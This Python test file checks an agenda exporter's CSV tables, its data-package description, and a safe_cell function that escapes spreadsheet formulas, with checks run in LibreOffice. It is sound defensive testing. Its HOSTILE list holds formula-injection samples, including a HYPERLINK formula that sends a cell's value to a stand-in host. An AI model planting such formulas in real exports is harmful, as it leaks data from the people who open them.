"""Test that programs and spreadsheets read the tables alike and run no formula."""

import csv
import json
import subprocess
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from frictionless import Package

from agenda.exports.export_settings import Licence
from agenda.exports.tables import safe_cell
from agenda.model import Agenda, Mention
from agenda.model.composition import build_months
from tests.exports.fixtures import AGENDA_NAMES, AGENDAS, every_shape, signed
from tests.exports.sample import agenda
from tests.exports.settings import SETTINGS, exported_files
from tests.machine import require_libreoffice

ITEMS = "du-lieu/lich-cong-tac.csv"
ATTENDANCE = "du-lieu/tham-du.csv"
HOSTILE = (
    '=HYPERLINK("https://example.invalid/?"&A2;"Xem")',
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "＝1+1",
)
HARMLESS = ("Họp; - không phải công thức", 'Nói "có" và xuống\ndòng', "’=", "Đ/c Văn", "1-3")


def test_the_header_follows_the_contract() -> None:
    content = exported_files(agenda())[ITEMS].content
    assert content.partition(b"\r\n")[0].decode() == (
        "ma,ngay,den_ngay,buoi,gio_bat_dau,gio_ket_thuc,noi_dung,dia_diem,chuan_bi,lanh_dao,"
        "trang_thai,url,doi_sang"
    )


def test_a_row_is_an_item() -> None:
    assert rows(agenda(), ITEMS)[1] == {
        "ma": "2021-05-bbbb",
        "ngay": "2021-05-04",
        "den_ngay": "2021-05-04",
        "buoi": "chieu",
        "gio_bat_dau": "14:00",
        "gio_ket_thuc": "15:30",
        "noi_dung": "Họp Tỉnh ủy",
        "dia_diem": "Hội trường TU",
        "chuan_bi": "Phòng TT-TK; Tổ giúp việc",
        "lanh_dao": "Đ/c Văn GĐ; Đ/c Ai",
        "trang_thai": "doi",
        "url": "https://example.invalid/lich/2021/05/#cv-bbbb",
        "doi_sang": "2021-05-06 sang",
    }


def test_a_row_of_attendance_is_a_name_and_an_item() -> None:
    assert [
        tuple(row[name] for name in ("ma", "ten", "loai", "ma_danh_ba", "ten_danh_ba"))
        for row in rows(agenda(), ATTENDANCE)
    ] == [
        ("2021-05-aaaa", "Lãnh đạo Sở", "nhom", "lanh-dao-so", "Lãnh đạo Sở"),
        ("2021-05-bbbb", "Đ/c Văn GĐ", "lanh-dao", "do-khoa-van", "Đỗ Khoa Văn"),
        ("2021-05-bbbb", "Đ/c Ai", "", "", ""),
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_like_a_formula_is_escaped(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("name", AGENDA_NAMES)
def test_the_tables_match_their_description(name: str, tmp_path: Path) -> None:
    made = exported_files(AGENDAS[name](tmp_path))
    folder = write(made, tmp_path / "open")
    report = Package(str(folder / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
    tables = [task.name for task in report.tasks]
    assert tables == ["lich-cong-tac", "tham-du"]


@pytest.mark.parametrize(
    ("url", "right", "wrong"),
    [
        (ITEMS, "2021-05-04,2021-05-04", "2021-05-04,04/5/2021"),
        (ITEMS, ",chieu,", ",trua,"),
        (ITEMS, "2021-05-bbbb", "2021-05-aaaa"),
        (ATTENDANCE, "2021-05-bbbb", "2021-05-zzzz"),
    ],
)
def test_validation_finds_errors(url: str, right: str, wrong: str, tmp_path: Path) -> None:
    folder = write(exported_files(agenda()), tmp_path)
    path = folder / url.rpartition("/")[2]
    text = path.read_text(encoding="utf-8")
    assert right in text
    path.write_text(text.replace(right, wrong), encoding="utf-8", newline="")
    description = folder / "datapackage.json"
    package = json.loads(description.read_text(encoding="utf-8"))
    for resource in package["resources"]:
        del resource["bytes"], resource["hash"]  # which would find any change at all
    description.write_text(json.dumps(package), encoding="utf-8")
    assert not Package(str(description)).validate().valid


def test_a_licence_is_named_only_where_there_is_one() -> None:
    licence = Licence(title="Điều kiện sử dụng", path="https://example.invalid/dieu-kien")
    with_one, without = (
        json.loads(exported_files(agenda(), settings)["du-lieu/datapackage.json"].content)
        for settings in (replace(SETTINGS, licence=licence), SETTINGS)
    )
    assert with_one["licenses"] == [{"title": licence.title, "path": licence.path}]
    assert "licenses" not in without


def test_without_a_public_url_links_lead_from_the_table() -> None:
    content = exported_files(agenda(), replace(SETTINGS, home=""))[ITEMS].content
    assert b",../2021/05/#cv-bbbb,2021-05-06 sang\r\n" in content


@pytest.mark.office
def test_a_spreadsheet_opens_the_tables_as_they_are(tmp_path: Path) -> None:
    """Test LibreOffice on the words of the signed agenda and of every other shape."""
    for name, known in (("signed", signed(tmp_path)), ("every", every_shape(tmp_path / "every"))):
        made = exported_files(known)
        for url in (ITEMS, ATTENDANCE):
            table = cells_of(made[url].content)
            assert spreadsheet(made[url].content, tmp_path / name) == table


@pytest.mark.office
def test_a_formula_without_escape_would_run(tmp_path: Path) -> None:
    assert spreadsheet(b"a,b\r\n=1+1,x\r\n", tmp_path) == [["a", "b"], ["2", "x"]]


@pytest.mark.office
def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
    texts = (*HOSTILE, *HARMLESS)
    content = exported_files(with_texts(agenda(), texts))[ITEMS].content
    found = [row[6] for row in spreadsheet(content, tmp_path)[1:]]
    assert found == [safe_cell(text) for text in texts]
    formulas = spreadsheet(content, tmp_path, formulas=True)
    assert [row[6] for row in formulas[1:]] == found


def spreadsheet(content: bytes, folder: Path, *, formulas: bool = False) -> list[list[str]]:
    """Return the cells after LibreOffice opened and saved the table.

    44 is a comma, 34 a quotation mark, 76 UTF-8. Formulas are evaluated, which is the worst case,
    and shown or replaced by their results. The list of column formats is
    empty, so that no column is read as text.
    """
    program = str(require_libreoffice("calc"))
    folder.mkdir(exist_ok=True)
    (folder / "table.csv").write_bytes(content)
    shown = "true" if formulas else "false"
    read = "CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true"
    write = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,true,{shown}"
    subprocess.run(
        [
            *(program, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless"),
            *(f"--infilter={read}", "--convert-to", write, "--outdir", str(folder / "out")),
            str(folder / "table.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    (made,) = (folder / "out").glob("table*.csv")
    cells = cells_of(made.read_bytes())
    made.unlink()
    return cells


def cells_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8"), newline="")))


def rows(known: Agenda, url: str) -> list[dict[str, str]]:
    content = exported_files(known)[url].content
    return list(csv.DictReader(StringIO(content.decode("utf-8"), newline="")))


def with_texts(known: Agenda, texts: tuple[str, ...]) -> Agenda:
    """Return the sample with an item for each text, whose leader has the same text."""
    (month,) = known.months
    revision = month.current
    entry = revision.entries[2]
    items = tuple(
        replace(entry.items[0], code=f"c{number}", text=text, leaders=(_named(text),))
        for number, text in enumerate(texts)
    )
    entries = (replace(entry, items=items),)
    (changed,) = build_months((replace(revision, number=0, entries=entries),))
    return replace(known, months=(changed,))


def _named(text: str) -> Mention:
    return Mention(text=text, entry=None)


def write(made: Any, folder: Path) -> Path:
    """Write the tables and their description to files."""
    folder.mkdir(exist_ok=True)
    for url in (ITEMS, ATTENDANCE, "du-lieu/datapackage.json"):
        (folder / url.rpartition("/")[2]).write_bytes(made[url].content)
    return folder
